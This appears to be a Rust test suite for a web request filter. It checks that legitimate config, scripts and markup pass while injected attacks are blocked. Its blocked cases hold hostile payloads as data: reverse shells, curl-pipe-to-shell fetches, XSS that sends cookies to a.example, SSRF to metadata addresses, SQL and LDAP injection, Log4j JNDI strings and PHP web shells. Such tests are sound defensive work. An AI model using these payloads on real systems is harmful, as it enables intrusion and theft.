//! Tests of allowances: settings and set-up documents pass, and attacks beside them are found all the same.

use super::testing::look;
use crate::{Class, Place};

const BODIES: [Place; 2] = [Place::Json, Place::Form];

/// What went otherwise than it should; each test tells all of it.
#[derive(Default)]
struct Check(Vec<String>);

impl Check {
    fn passes(&mut self, class: Class, name: &str, text: &str) {
        BODIES.iter().for_each(|place| self.at(*place, class, name, text, false));
    }

    fn blocked(&mut self, class: Class, name: &str, text: &str) {
        BODIES.iter().for_each(|place| self.at(*place, class, name, text, true));
    }

    fn at(&mut self, place: Place, class: Class, name: &str, text: &str, wanted: bool) {
        let (have, is_blocked) = look(class, place, name, text.as_bytes());
        if is_blocked != wanted {
            self.0.push(format!("{place:?} {name}={text}: blocked {is_blocked}, {have}"));
        }
    }

    #[track_caller]
    fn done(self) {
        assert!(self.0.is_empty(), "{}", self.0.join("\n"));
    }
}

#[test]
fn addresses_of_services() {
    let mut check = Check::default();
    for url in [
        "http://192.168.1.10:8123",
        "http://localhost:3000/",
        "https://10.0.0.5:9200",
        "http://localhost:11434/v1",
        "http://127.0.0.1:8080/api/v2/status",
        "http://172.17.0.1:3128",
    ] {
        for name in ["url", "server_url", "endpoint", "http_proxy", "settings.healthcheck"] {
            if url.contains("9200") && name == "http_proxy" {
                continue;
            }
            check.passes(Class::Ssrf, name, url);
        }
    }
    for url in [
        "http://169.254.169.254/",
        "http://169.254.169.254/latest/meta-data/",
        "http://metadata.google.internal/",
        "http://2130706433/",
        "http://0x7f.1/",
        "http://127.1/",
        "http://[::ffff:127.0.0.1]/",
        "http://10.0.0.1.nip.io/",
        "http://127.0.0.1:6379/",
        "http://10.0.0.1:2375/containers/json",
        "http://127.0.0.1:9200/_search",
        "http://localhost/admin",
        "http://localhost/api/admin/users",
        "http://127.0.0.1:8080/manager/html",
        "http://localhost:8080/actuator/env",
        "http://192.168.0.1/x?delete=1",
        "http://localhost:3000/api?cmd=id",
        "http://localhost/api/../admin",
        "http://localhost/api//admin",
        "http://localhost/%61dmin",
        "http://a.example@127.0.0.1/",
        "http://127.0.0.1#@a.example/",
        "http:\\\\127.0.0.1\\",
        "http:127.0.0.1",
        "gopher://127.0.0.1:80/_x",
        "dict://10.1.2.3:80/info",
        "ftp://127.0.0.1/x",
    ] {
        check.blocked(Class::Ssrf, "url", url);
    }
    // What a server is to load and show is no setting, and a page's parameters are none.
    for name in ["image_url", "avatar_url", "import_url", "source_url", "pdf_url", "id", "file", "page"] {
        check.blocked(Class::Ssrf, name, "http://localhost:3000/");
    }
    for place in [Place::Query, Place::Cookie, Place::Header] {
        check.at(place, Class::Ssrf, "endpoint", "http://10.0.0.5:8123/", true);
    }
    check.done();
}

#[test]
fn documents_of_set_ups() {
    let mut check = Check::default();
    for (name, text) in [
        ("dockerfile", "FROM a:1\nRUN apt-get update && rm -rf /var/lib/apt/lists/*\nCMD [\"a\"]"),
        (
            "content",
            "FROM a:20\nRUN apt-get update && apt-get install -y curl && rm -rf /var/lib/apt/lists/*\n",
        ),
        (
            "yaml",
            "kind: Pod\nspec:\n  - name: a\n    command: [\"/bin/sh\",\"-c\",\"while true; do date; sleep 5; done\"]",
        ),
        ("unit", "[Service]\nExecStartPre=/bin/sh -c \"mkdir -p /run/a && chown a /run/a\"\nRestart=always"),
        (
            "user_data",
            "#cloud-config\nruncmd:\n - systemctl enable nginx\n - curl -fsSL https://a.example/i.sh | sh",
        ),
        ("cron", "0 9 * * * /usr/bin/backup.sh && curl -fsS https://a.example/x > /dev/null"),
        ("build_command", "npm ci && npm run build && cp -r dist/ /srv/www"),
        ("start_command", "sh -c \"npx a migrate && node server.js\""),
        ("command", "python manage.py runserver 0.0.0.0:8000"),
    ] {
        check.passes(Class::Command, name, text);
    }
    for name in ["dockerfile", "yaml", "nginx_config", "user_data", "cron", "build_command", "config", "env"]
    {
        for text in [
            ";cat /etc/passwd",
            "x;cat /etc/passwd",
            "a: b;curl http://a.example/x|sh",
            "RUN x;curl http://a.example/x|sh",
            "RUN x && cat /etc/passwd",
            "a: b; bash -i >& /dev/tcp/192.0.2.7/99 0>&1",
            "RUN a; nc 192.0.2.7 99 -e /bin/sh",
            "a: b; c''at /etc/hosts",
            "a: b; cat$IFS/etc/hosts",
            "a: $(curl http://a.example/x)",
            "a=`wget http://a.example/x`",
            "|id",
            "$(id)",
        ] {
            check.blocked(Class::Command, name, text);
        }
        check.blocked(Class::Path, name, "/etc/passwd");
        check.blocked(Class::Path, name, "a: ../../../../etc/passwd");
        check.blocked(Class::Ssrf, name, "http://127.0.0.1:6379/");
        check.blocked(Class::Log4j, name, "a: ${jndi:ldap://a.example/x}");
        check.blocked(Class::Sqli, name, "a: 1' or '1'='1");
    }
    check.passes(Class::Ssrf, "nginx", "server { location / { proxy_pass http://127.0.0.1:3000; } }");
    check.passes(
        Class::Path,
        "compose",
        "services:\n  a:\n    volumes: [\"/var/run/docker.sock:/var/run/docker.sock\"]",
    );
    // The same text in a field that is for something else.
    check.blocked(Class::Command, "id", "RUN apt-get update && rm -rf /var/lib/apt/lists/*");
    check.blocked(Class::Command, "host", "0 9 * * * /usr/bin/a && curl -fsS https://a.example/x");
    check.blocked(Class::Command, "command", "cat /etc/passwd; uname -a");
    check.done();
}

#[test]
fn files_of_an_installation() {
    let mut check = Check::default();
    for (name, text) in [
        ("path", "/etc/nginx/nginx.conf"),
        ("config_path", "/etc/prometheus/prometheus.yml"),
        ("log_path", "/var/log/auth.log"),
        ("log_file", "/var/log/nginx/error.log"),
        ("cert_path", "/etc/ssl/certs/ca-certificates.crt"),
        ("volumes", "/var/lib/a:/data"),
    ] {
        check.passes(Class::Path, name, text);
    }
    for name in ["path", "config_path", "log_file", "volumes", "data_dir"] {
        for text in [
            "/etc/passwd",
            "/etc/shadow",
            "/etc/ssh/ssh_host_rsa_key",
            "/proc/self/environ",
            "/home/a/.ssh/id_rsa",
            "/root/.bash_history",
            "/var/www/html/.env",
            "/etc/nginx/../passwd",
            "../../../../etc/nginx/nginx.conf",
            "..%2f..%2f..%2fetc/nginx/nginx.conf",
            "/var/log/../../etc/shadow",
        ] {
            check.blocked(Class::Path, name, text);
        }
    }
    for name in ["file", "page", "template", "include", "q"] {
        check.blocked(Class::Path, name, "/etc/nginx/nginx.conf");
    }
    check.at(Place::Query, Class::Path, "path", "/etc/nginx/nginx.conf", true);
    check.done();
}

/// A title names a path; one that climbs, or is all of the title, reaches a file.
#[test]
fn titles() {
    let mut check = Check::default();
    check.passes(Class::Path, "title", "Can't connect through socket '/var/run/mysqld/mysqld.sock' (2)");
    check.passes(Class::Path, "subject", "permission denied for /etc/shadow when running sudo");
    for text in
        ["/etc/shadow", "x/../../../../etc/passwd", "see ../../../../etc/passwd", "php://filter/resource=x"]
    {
        check.blocked(Class::Path, "title", text);
    }
    check.blocked(Class::Path, "name", "see /etc/shadow");
    check.done();
}

#[test]
fn secrets() {
    let mut check = Check::default();
    for text in ["x\"(9&;id|)$1%", ".'/}J,sNL+:?VB-^r!$Y", "x|Bf5.1LOQ^`Tv!0`&?F", "k'/!;:CNxk7%^|\\w|8!7"] {
        check.passes(Class::Command, "api_secret", text);
    }
    check.passes(Class::Code, "password", ";A6ltTk>24<%@Ywzr!v^");
    check.passes(Class::Xss, "password", "r'OQ)#\";t('{$x}v)oP$");
    check.passes(Class::Sqli, "client_secret", "@Jggo'm'='\"wufthkjX!");
    for text in [";cat /etc/passwd", "$(curl http://a.example/x|sh)", "x';id;uname -a", "|nslookup a.example"]
    {
        check.blocked(Class::Command, "api_secret", text);
        check.blocked(Class::Command, "password", text);
    }
    for text in ["' or 1=1-- -", "x' union select 1,2-- -", "' or '1'='1", "'='"] {
        check.blocked(Class::Sqli, "api_secret", text);
        check.blocked(Class::Sqli, "token", text);
    }
    for text in ["\"><script>alert(1)</script>", "';alert(document.cookie)//", "<svg onload=alert(1)>"] {
        check.blocked(Class::Xss, "password", text);
        check.blocked(Class::Xss, "token", text);
    }
    check.blocked(Class::Code, "password", "<%@ page import=\"java.io.*\" %>");
    check.blocked(Class::Code, "password", "<%@Page Language=\"C#\"%>");
    check.done();
}

#[test]
fn filters_and_lists() {
    let mut check = Check::default();
    check.passes(
        Class::Sqli,
        "filter",
        "status = 'open' AND (assignee = currentUser() OR priority in (High)) ORDER BY created DESC",
    );
    check.passes(Class::Ldap, "user_search", "(&(objectClass=person)(|(uid={0})(mail={0})))");
    check.passes(Class::Xss, "disallowed_keys", "viagra\n<script\n[url=\nonload=");
    for text in [
        "x' or 1=1-- -",
        "1 union select a,b from c",
        "1 and sleep(5)",
        "1;drop table a",
        "1 and (select 1 from users)=1",
    ] {
        check.blocked(Class::Sqli, "filter", text);
    }
    for text in ["*)(uid=*))(|(uid=*", "x)(|(password=*)"] {
        check.blocked(Class::Ldap, "user_search", text);
    }
    check.blocked(Class::Xss, "disallowed_keys", "<script>alert(1)</script>");
    check.blocked(Class::Xss, "disallowed_keys", "a\n<img src=x onerror=alert(1)>");
    check.done();
}

/// A field for markup takes what counts visits and embeds films, and no script of somebody's own.
#[test]
fn markup() {
    let mut check = Check::default();
    check.passes(
        Class::Xss,
        "html",
        "<script async src=\"https://www.googletagmanager.com/gtag/js?id=G-1\"></script><script>window.dataLayer=\
         window.dataLayer||[];function gtag(){dataLayer.push(arguments);}gtag(\"js\",new Date());</script>",
    );
    check.passes(
        Class::Xss,
        "embed_html",
        "<script src=\"https://player.vimeo.com/api/player.js\"></script>",
    );
    check.passes(
        Class::Xss,
        "template",
        "<body onload=\"init()\"><script>setTimeout(function(){location.reload()},5000)</script>",
    );
    check.passes(Class::Xss, "cells.source", "page = \"<canvas onload='resize()'></canvas>\"");
    for text in [
        "<body onload=\"alert(1)\">",
        "<body onload=\"top['al'+'ert'](1)\">",
        "<svg onload=location=name>",
        "<script src=https://a.example/x.js></script>",
        "<script src=\"https://www.googletagmanager.com/gtm.js?id=GTM-1\"></script>",
        "<script src=\"https://www.googletagmanager.com/gtag/js?id=GTM-1\"></script>",
        "<script src=\"https://www.googletagmanager.com/gtag/js?id=G-1&x=//a.example\"></script>",
        "<script src=\"https://www.googletagmanager.com.a.example/gtag/js?id=G-1\"></script>",
        "<script src=\"https://a.example/www.googletagmanager.com/gtag/js?id=G-1\"></script>",
        "<script src=\"https://plausible.io/js/../../x\" src=//a.example></script><script>alert(1)</script>",
        "<script>alert(document.domain)</script>",
        "<script>fetch('//a.example/'+document.cookie)</script>",
        "<script>location='//a.example'</script>",
        "<script>eval(name)</script>",
        "<img src=x onerror=alert(1)>",
    ] {
        check.blocked(Class::Xss, "html", text);
    }
    for name in ["comment", "q", "id", "name"] {
        check.blocked(Class::Xss, name, "<script src=\"https://player.vimeo.com/api/player.js\"></script>");
    }
    check.done();
}

/// A text that speaks of everything passes; one piece that is live in it does not.
#[test]
fn many_mentions() {
    let article = "```sql\nSELECT a, COUNT(*) FROM b WHERE c LIKE '%x%' AND d IS NULL GROUP BY a HAVING COUNT(*) > 5 ORDER BY 1\n\
        SELECT CASE WHEN a > 1 THEN CONCAT(a, 'x') END FROM information_schema.tables UNION ALL SELECT 1, 2 LIMIT 10\n\
        CREATE TABLE t (id INT); DROP TABLE t; INSERT INTO t VALUES (1); -- done\nWHERE 1=1 OR '1'='1'\n```\n";
    let mut check = Check::default();
    check.passes(Class::Sqli, "wikitext", article);
    check.passes(Class::Sqli, "wikitext", &article.repeat(20));
    for attack in ["x' or '1'='1", "x') union select a,b from c-- -", "1; drop table a-- -"] {
        check.blocked(Class::Sqli, "wikitext", &format!("{attack}\n{article}"));
    }
    check.blocked(Class::Xss, "wikitext", &format!("{article}<svg onload=alert(1)>"));
    check.blocked(Class::Command, "wikitext", &format!("{article} I liked it;cat /etc/passwd"));
    check.blocked(Class::Sqli, "id", article);
    check.done();
}

/// Programs that a text shows or speaks of: a line of one begins as those of a shell do.
#[test]
fn programs_in_texts() {
    let mut check = Check::default();
    for text in [
        "version=$(git describe --tags)\ndocker build -t app:\"$version\" . && docker push app",
        "export V=$(cat VERSION)",
        "VERSION := $(shell git describe --tags)\nall:\n\tgo build ./...\n",
        "wc -l data/*.csv; du -sh data\necho $(date) > stamp.txt",
        "gcloud run deploy api --image gcr.io/x/api:$(git rev-parse --short HEAD)",
        "try: sudo systemctl restart nginx && journalctl -u nginx -n 50 --no-pager",
        "<ac:plain-text-body><![CDATA[for h in db1 db2; do ssh $h 'systemctl status x | head -3'; done]]></ac:plain-text-body>",
        "if [ -f ~/.bashrc ]; then . ~/.bashrc; fi",
        "FROM a:1\nRUN apt-get update && apt-get install -y gcc \\\n    && rm -rf /var/lib/apt/lists/*\n",
        "> What does `umask` say?\n\n$ umask; id -u\n0022\n1000",
        "Python has a built-in ``dir`` function, and (``pwd``, ``ls``, and ``cp``) do the rest",
    ] {
        for name in ["comment", "readme", "message"] {
            check.passes(Class::Command, name, text);
        }
        check.blocked(Class::Command, "host", &format!("x;{text};cat /etc/passwd"));
    }
    for text in [
        "x``id`y``$(id)",
        "$(id)",
        "hello $(id)",
        "a b=$(id)",
        "a=;b=$(cat /etc/passwd)",
        "if you like $(id)",
        "for me $(id)",
        "note: $(id)",
        "note: x;cat /etc/passwd",
        "x 1 -- $(id)",
        "version=$(cat /etc/passwd)",
        "version=$(curl http://a.example/x)",
        "try: ls $(wget http://a.example/x)",
        "if [ 1 ]; c''at /etc/passwd",
        "hello \\\n    ; cat /etc/passwd",
        // No program is written so.
        "v=1;cat /etc/passwd",
        "v=1; cat /etc/passwd",
        "tool -a;cat /etc/passwd",
        "try: ls;cat /etc/passwd",
        "if [ 1 ];cat /etc/passwd",
        "$ tool|cat /etc/passwd",
    ] {
        for name in ["comment", "readme", "message"] {
            check.blocked(Class::Command, name, text);
        }
    }
    check.done();
}

/// The command line that a language model gives a tool, as the protocols write it: nothing breaks out of a
/// line that begins with a command.
#[test]
fn calls_of_tools() {
    const CALL: &str = "messages.messages.tool_calls.tool_calls.function.arguments";
    const NAMES: [&str; 2] = ["params.arguments.command", "messages.content.content.input.command"];
    let mut check = Check::default();
    for line in [
        "cd /app && pytest -q",
        "curl -s http://localhost:3000/health | jq .",
        "kill $(lsof -ti:3000) || true",
        "which node; node -v",
        "id; whoami; pwd",
        "python3 -c \"print(1)\"",
    ] {
        for name in NAMES {
            check.at(Place::Json, Class::Command, name, line, false);
        }
        let document = format!("{{\"cmd\": \"{}\"}}", line.replace('"', "\\\""));
        check.at(Place::Json, Class::Command, CALL, &document, false);
        let words = document.replace(": ", ": [\"bash\", \"-lc\", ").replace('}', "]}");
        check.at(Place::Json, Class::Command, CALL, &words, false);
        let document = document.replace("cmd", "repo");
        check.at(Place::Json, Class::Command, CALL, &document, true);
        for name in ["command", "params.arguments.repo", "params.command", "ids.arguments.command"] {
            check.at(Place::Json, Class::Command, name, line, true);
        }
        for place in [Place::Query, Place::Form, Place::Cookie] {
            check.at(place, Class::Command, NAMES[0], line, true);
        }
    }
    let wait = "until nslookup db.default.svc.cluster.local; do echo waiting; sleep 2; done";
    for (name, is_blocked) in [("spec.initContainers.command", false), ("spec.containers.host", true)] {
        check.at(Place::Json, Class::Command, name, wait, is_blocked);
        check.at(Place::Json, Class::Command, name, "x;cat /etc/passwd", true);
    }
    check.at(Place::Json, Class::Sqli, NAMES[0], "psql -c \"select count(*) from users\"", false);
    for line in [
        ";cat /etc/passwd",
        "x;id",
        "$(id)",
        "a b | nc 192.0.2.1 99",
        "ls; c''at /etc/hosts",
        "cat /etc/passwd",
        "bash -i >& /dev/tcp/192.0.2.7/99 0>&1",
        "' or 1=1-- -",
    ] {
        for name in NAMES {
            check.at(Place::Json, Class::Command, name, line, true);
        }
    }
    check.done();
}

/// A class is no web shell; what takes something of a request, runs or reaches something in a source of any
/// length is.
#[test]
fn sources_of_php() {
    let source = "<?php\nnamespace App;\n\n/** A class. */\nclass A\n{\n    public $b = 1;\n    public function c() { return $this->b; }\n";
    let mut check = Check::default();
    check.passes(Class::Code, "content", &format!("{source}}}\n"));
    check.at(Place::FileContent, Class::Code, "file", &format!("{source}}}\n"), false);
    for payload in [
        "system($_GET['c']);",
        "system('id');",
        "$f = 'sys' . 'tem'; $f('id');",
        "('sys' . 'tem')('id');",
        "echo `id`;",
        "eval(base64_decode('aWQ='));",
        "include $_POST['x'];",
        "phpinfo();",
    ] {
        check.at(
            Place::FileContent,
            Class::Code,
            "file",
            &format!("{source} function d() {{ {payload} }} }}\n"),
            true,
        );
    }
    check.blocked(Class::Code, "id", &format!("{source}}}\n"));
    check.done();
}

/// Files that an editor saves: what of them is no piece of something else, and what stays one.
#[test]
fn files_in_fields() {
    const PROGRAM: &str = "// Splits a query, as browsers' do.\nvar q = {};\nparts.forEach(function (x) {\n";
    const PAGE: &str = "<!DOCTYPE html>\n<html lang=\"en\">\n<head><meta charset=\"utf-8\"><link rel=\"stylesheet\" href=\"/a.css\">\n";
    let mut check = Check::default();
    for name in ["content", "source_code", "wpTextbox1", "file.data", "asset.value", "body"] {
        for line in [
            "  q[x.split('=')[0]] = x.split('=')[1] || '';",
            "  if (c == '\\'' || c == '\"' && d == ')') { s = \"'\" + s + \"'\"; }",
            "  s = 'a' + (x ? ' or ' : ' and ') + b + ';'; return s + '--';",
            "  out.push('<li>' + x + '</li>'); y = \"--'\"; # '",
        ] {
            check.passes(Class::Sqli, name, &format!("{PROGRAM}{line}\n}});\n"));
        }
        for attack in [
            "x' or '1'='1",
            "1' union select name, password from users -- ",
            "it' || (select 1 from (select sleep(5))a) || '",
            "' or 1=1 -- ",
            "a'; drop table users -- ",
        ] {
            check.blocked(Class::Sqli, name, &format!("{PROGRAM}{attack}"));
        }
        for script in [
            "<script src=\"https://cdn.example/d3.min.js\"></script><script>d3.select('#a').append('svg');</script>",
            "<script>var t = localStorage.getItem('t'); if (t === null) { t = 'dark'; }</script>",
            "<body onload=\"init()\"><a href=\"#\" onclick=\"show('b'); return false\">b</a>",
        ] {
            check.passes(Class::Xss, name, &format!("{PAGE}{script}\n</html>"));
        }
        for script in [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(document.domain)>",
            "<script>new Image().src = '//a.example/?' + document.cookie</script>",
            "<svg onload=\"fetch('//a.example/', {method: 'POST', body: localStorage.getItem('t')})\">",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<script src=\"//a.example/x.js\"></script>",
            "<script src=http://a.example/x.js></script>",
            "<script language=vbs>msgbox 1</script>",
            "<script>window['al' + 'ert'](1)</script>",
            "<iframe srcdoc=\"&lt;script>alert(1)&lt;/script>\"></iframe>",
            "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
        ] {
            check.blocked(Class::Xss, name, &format!("{PAGE}{script}\n</html>"));
        }
        check.blocked(Class::Log4j, name, &format!("{PAGE}${{jndi:ldap://a.example/x}}\n</html>"));
        // In fields for code these are what the field is for.
        if name == "source_code" {
            continue;
        }
        check.blocked(Class::Template, name, &format!("{PAGE}{{{{9*9}}}}{{{{config.__class__}}}}\n</html>"));
        check.blocked(Class::Command, name, &format!("#!/bin/sh\n# {PROGRAM}x;cat /etc/passwd\n"));
        check.blocked(Class::Command, name, &format!("#!/bin/sh\n# {PROGRAM}x; c''at /etc/passwd\n"));
        check.blocked(Class::Command, name, &format!("#!/bin/sh\n# {PROGRAM}& cat /etc/passwd\n"));
        check.blocked(
            Class::Command,
            name,
            &format!("#!/bin/sh\n# {PROGRAM}() {{ :;}}; /bin/cat /etc/passwd\n"),
        );
        check.blocked(Class::Sqli, name, &format!("{PROGRAM}1%' or (1=1)*4 and '%'='"));
    }
    check.passes(
        Class::Command,
        "content",
        "#!/bin/sh\n# Tells what runs.\nfor h in a b; do ssh \"$h\" uptime; done\nif [ -f /etc/os-release ]; then cat /etc/os-release; fi\n",
    );
    let script = "<script>d3.select('#a').append('svg').attr('x', 1);</script><body onload=\"init()\">";
    for name in ["comment", "id", "q", "name", "url", "data", "value", "message"] {
        check.blocked(Class::Xss, name, &format!("{PAGE}{script}\n</html>"));
    }
    for place in [Place::Query, Place::Header, Place::Cookie] {
        check.at(place, Class::Xss, "content", &format!("{PAGE}{script}\n</html>"), true);
    }
    // Text before it makes a piece of a page of it.
    check.blocked(
        Class::Xss,
        "content",
        &format!("Hello, this is what I found yesterday:\n{PAGE}{script}\n</html>"),
    );
    check.done();
}

/// Sources of PHP in fields for files: applications read requests and start programs, shells run what they
/// are sent.
#[test]
fn applications_of_php() {
    let class = |body: &str| {
        format!(
            "<?php\nnamespace App;\n\n/** A page. */\nclass Page\n{{\n    function show()\n    {{\n        {body}\n    }}\n}}\n"
        )
    };
    let mut check = Check::default();
    for body in [
        "$t = $_GET['tab'] ?? 'home'; include __DIR__ . '/tabs/home.php'; echo htmlspecialchars($t);",
        "exec('git rev-parse HEAD', $out); return $out[0];",
        "return array_map('trim', $_POST['names']);",
        "$this->db->exec('vacuum'); return $this->call($_REQUEST['x']);",
    ] {
        check.passes(Class::Code, "content", &class(body));
        check.at(Place::FileContent, Class::Code, "file", &class(body), false);
        check.blocked(Class::Code, "comment", &class(body));
        check.blocked(Class::Code, "id", &class(body));
    }
    for body in [
        "system($_GET['c']);",
        "$c = trim($_POST['c']); $d = 'sh -c ' . $c; passthru($d);",
        "eval(base64_decode('ZWNobyAxOw=='));",
        "$f = 'sys' . 'tem'; $f('id');",
        "$_GET['f']($_GET['x']);",
        "exec('cat /etc/passwd');",
        "include($_REQUEST['page']);",
        "file_put_contents($_POST['f'], $_POST['d']);",
    ] {
        check.blocked(Class::Code, "content", &class(body));
        check.at(Place::FileContent, Class::Code, "file", &class(body), true);
    }
    check.done();
}

#[test]
fn settings_that_list_objects() {
    let mut check = Check::default();
    let spring = |bean: &str| {
        format!(
            "<?xml version=\"1.0\"?>\n<!-- Data. -->\n<beans xmlns=\"http://www.springframework.org/schema/beans\">\n  {bean}\n</beans>\n"
        )
    };
    let pool = spring("<bean id=\"data\" class=\"org.apache.commons.dbcp2.BasicDataSource\"/>");
    let jetty = "<?xml version=\"1.0\"?>\n<!DOCTYPE Configure PUBLIC \"-//Jetty//Configure//EN\" \"https://jetty.org/configure_9_3.dtd\">\n\
                 <Configure id=\"Server\" class=\"org.eclipse.jetty.server.Server\">\n  <New class=\"java.net.InetSocketAddress\"/>\n</Configure>\n";
    for text in [&pool[..], jetty] {
        check.passes(Class::Deserialization, "content", text);
        check.at(Place::FileContent, Class::Deserialization, "file", text, false);
        check.at(Place::RawBody, Class::Deserialization, "", text, false);
        // Where a program may read it, it is what it says.
        for name in ["q", "data", "comment"] {
            check.blocked(Class::Deserialization, name, text);
        }
    }
    for class in [
        "java.lang.ProcessBuilder",
        "javax.script.ScriptEngineManager",
        "java.net.URLClassLoader",
        "org.springframework.context.support.ClassPathXmlApplicationContext",
        "com.sun.rowset.JdbcRowSetImpl",
    ] {
        let text = spring(&format!("<bean class=\"{class}\"><constructor-arg value=\"id\"/></bean>"));
        check.blocked(Class::Deserialization, "content", &text);
        check.at(Place::FileContent, Class::Deserialization, "file", &text, true);
        check.at(Place::RawBody, Class::Deserialization, "", &text, true);
    }
    // Another root than that of settings, or none.
    let other = pool.replace("beans", "sorted");
    check.blocked(Class::Deserialization, "content", &other);
    check.done();
}

#[test]
fn pieces_of_programs() {
    let mut check = Check::default();
    let script = |line: &str| {
        format!(
            "'use strict';\n\nconst a = {line};\n\nmodule.exports = {{ a, b: 'a text of a program that is long enough' }};\n"
        )
    };
    for line in ["require('../../core/util')", "require(\"../../../lib/a-b.c\")"] {
        check.passes(Class::Code, "content", &script(line));
        check.at(Place::FileContent, Class::Code, "file", &script(line), false);
        check.blocked(Class::Code, "q", &script(line));
    }
    for line in
        ["require('../../etc/shadow')", "require('../../../home/a/.ssh/id_rsa')", "require('../../a/.env')"]
    {
        check.blocked(Class::Code, "content", &script(line));
    }
    check.passes(Class::Xss, "content", &script("typeof onFulfilled === 'function' ? 1 : 2"));
    check.blocked(Class::Xss, "q", "\" onfulfilled=alert(1) x=\"");
    check.passes(
        Class::Sqli,
        "content",
        &script("'With ``--global\'\' or ``--region=A\'\' flags. For more'"),
    );
    check.blocked(Class::Sqli, "q", "' or `id`-- ");
    check.done();
}

#[test]
fn files_as_programs_and_people_write_them() {
    let mut check = Check::default();
    let long = "/* what was made small */".repeat(60);
    // A program that was made small is one line.
    let bundle = format!(
        "\"use strict\";(self.chunks=self.chunks||[]).push([[1],{{2:(e,t,r)=>{{r.d(t,{{Z:()=>n}});var n='a'+r(3)}}}}]);{long}"
    );
    check.passes(Class::Xss, "content", &bundle);
    check.blocked(Class::Xss, "q", "\";(self.a=self.b||[]).push(alert(1));//");
    let class = format!("class ${{constructor(e,t){{this.text=void 0,this.height=e(t)}}}}{long}");
    check.passes(Class::Template, "content", &class);
    check.blocked(
        Class::Template,
        "content",
        &class.replace("class ${constructor(", "x ${constructor.constructor("),
    );
    let scripts =
        ["const { spawn } = require('child_process')", "import { spawn } from 'node:child_process'"];
    for line in scripts {
        check.passes(Class::Code, "content", &format!("'use strict'\n\n{line}\n\nmodule.exports = (a) => spawn(process.execPath, a, {{ stdio: 'inherit' }})\n"));
        check.blocked(Class::Code, "content", &format!("'use strict'\n\n{line}\n\nrequire('child_process').exec('cat /etc/passwd | nc 10.0.0.1 99')\n// a comment to be long\n"));
    }
    for line in ["const { exec: e } = require('child_process')", "const e = require('child_process')['exec']"]
    {
        check.blocked(Class::Code, "content", &format!("'use strict'\n\n{line}\n\nmodule.exports = (a) => e('cat /etc/passwd | nc 10.0.0.1 99', a, 1)\n"));
    }
    // Templates that are data to a browser.
    for kind in ["text/x-red", "text/x-handlebars-template", "application/vnd.api+json"] {
        check.passes(
            Class::Xss,
            "html",
            &format!("<script type=\"{kind}\" data-name=\"a\"><p>{{{{ a }}}}</p></script>"),
        );
    }
    for kind in ["text/javascript", "text/babel", "text/ng-template", "text/java&#x73;cript", "module", "x"] {
        check.blocked(
            Class::Xss,
            "comment",
            &format!("<script type=\"{kind}\">fetch('//a.example/?'+document.cookie)</script>"),
        );
    }
    let page = |handler: &str| {
        format!(
            "<!DOCTYPE html>\n<html><head><title>Help</title></head><body>\n<a href=\"#\" onclick=\"{handler}\">More</a>\n</body></html>\n"
        )
    };
    check.passes(Class::Xss, "content", &page("window.open('a_b.html', '', ''); return false;"));
    for handler in [
        "window.open('//a.example/'+document.cookie)",
        "window.open('javascript:alert(1)')",
        "window.open('a.html', '', '');alert(1)",
    ] {
        check.blocked(Class::Xss, "content", &page(handler));
    }
    check.passes(
        Class::Command,
        "content",
        &"const id = this.id;\nreturn base !== null && id !== void 0 ? id : base;\n".repeat(3),
    );
    check.blocked(Class::Command, "content", "true && id\n");
    // Texts of several lines between three quotes.
    let toml = "[package]\nname = \"a\"\nreplace = \"\"\"\n<!-- next-header -->\n## [Unreleased] - ReleaseDate\n\"\"\"\nexactly = 1\n\n[[package.replacements]]\nfile = \"CHANGELOG.md\"\n";
    check.passes(Class::Sqli, "content", toml);
    check.blocked(Class::Sqli, "content", &format!("{toml}x\" or 1=1 -- "));
    check.blocked(Class::Sqli, "content", &format!("{toml}x = \"\"\" y\n' or 1=1 -- "));
    let code = "int once_tid = mi_atomic_load_acquire(&once->tid);\nif (once_tid == 0) {\n  return mi_run(once_tid, \"a\");\n}\n".repeat(2);
    check.passes(Class::Xss, "content", &code);
    // Charts for Kubernetes, in Go's templates.
    let chart = "metadata:\n  name: {{ include \"app.name\" . }}\n  labels: {{- toYaml .Values.labels | nindent 4 }}\n  port: {{ default \"80\" .Values.port }}\n  {{- range printf \"%s\" .Values.hosts }}\n  {{- end }}\n";
    check.passes(Class::Template, "content", chart);
    check.passes(Class::Template, "comment", chart);
    for text in [
        "{{ 'a' .class }}",
        "{{ not ''.__class__ }}",
        "{{ ''.__class__.__mro__ }}",
        "{{ empty ''.getClass() }}",
    ] {
        check.blocked(Class::Template, "content", text);
        check.blocked(Class::Template, "q", text);
    }
    check.passes(
        Class::Template,
        "content",
        &format!(
            "====== Admin ======\n\nSee [[doku>config]] and [[wiki:syntax]].\n{}",
            "More words. ".repeat(10)
        ),
    );
    let dump = "CREATE TABLE `a` (\n  `b` int(10) UNSIGNED NOT NULL AUTO_INCREMENT,\n  `c` varchar(128) NOT NULL,\n  PRIMARY KEY (`b`)\n) /*!40000 ENGINE=INNODB */ /*!40101 CHARACTER SET utf8 */;\n";
    check.passes(Class::Sqli, "content", dump);
    check.passes(
        Class::Sqli,
        "content",
        &format!("-- Updates from version 0.6\n\n/*!40014 SET FOREIGN_KEY_CHECKS=0 */;\n\n{dump}"),
    );
    check.blocked(
        Class::Sqli,
        "content",
        &dump.replace("ENGINE=INNODB", "UNION SELECT load_file('/etc/passwd')"),
    );
    check.blocked(Class::Sqli, "q", "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2,3");
    check.done();
}
